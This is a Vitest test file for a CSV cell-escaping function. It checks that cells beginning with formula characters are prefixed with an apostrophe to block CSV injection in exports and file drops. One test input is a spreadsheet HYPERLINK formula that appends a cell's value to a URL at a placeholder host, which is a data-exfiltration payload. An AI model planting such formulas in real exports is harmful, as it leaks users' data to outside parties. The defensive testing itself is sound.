/** The one CSV cell writer (engine/submissions/csv-cell.ts), as the API export and the file drop use it. */
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../../engine/submissions/csv-cell.js';
import { cellText } from '../../../engine/submissions/export.js';
import { dropCell } from '../../../engine/sync/connectors/file-drop.js';

const STARTS = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '＝1+1', '＋1', '－1', '＠SUM(A1)', "'=1+1"];

describe('csvCell', () => {
  it.each(STARTS)('puts one apostrophe before text starting %j, in the export and in the file drop', (text) => {
    expect(cellText(text)).toBe(`'${text}`);
    expect(dropCell(text)).toBe(`'${text}`);
  });

  it('escapes every item of a list of plain answers joined into one export cell (CSV injection through list answers)', () => {
    expect(cellText(['=HYPERLINK("http://x.example/?"&L2,"open")'])).toBe(`'=HYPERLINK("http://x.example/?"&L2,"open")`);
    expect(cellText(['ok', '=1+1', '＠x', 3, -4, true, null])).toBe(`ok; '=1+1; '＠x; 3; -4; true; `);
    // The file drop writes lists as JSON, which starts with [ and is never a formula.
    expect(dropCell(['=1+1'])).toBe('["=1+1"]');
  });

  it('leaves numbers as numbers but text that looks like one is text', () => {
    for (const lists of ['joined', 'json'] as const) {
      expect(csvCell(-5, lists)).toBe('-5');
      expect(csvCell(4.5, lists)).toBe('4.5');
      expect(csvCell(Number.NaN, lists)).toBe('');
      expect(csvCell('-5', lists)).toBe("'-5");
      expect(csvCell('+44 20 7946 0000', lists)).toBe("'+44 20 7946 0000");
      expect(csvCell(false, lists)).toBe('false');
      expect(csvCell(null, lists)).toBe('');
      expect(csvCell(undefined, lists)).toBe('');
      expect(csvCell({ a: '=1' }, lists)).toBe('{"a":"=1"}');
      expect(csvCell([{ a: '=1' }], lists)).toBe('[{"a":"=1"}]');
      expect(csvCell('Seen = safe', lists)).toBe('Seen = safe');
    }
  });
});
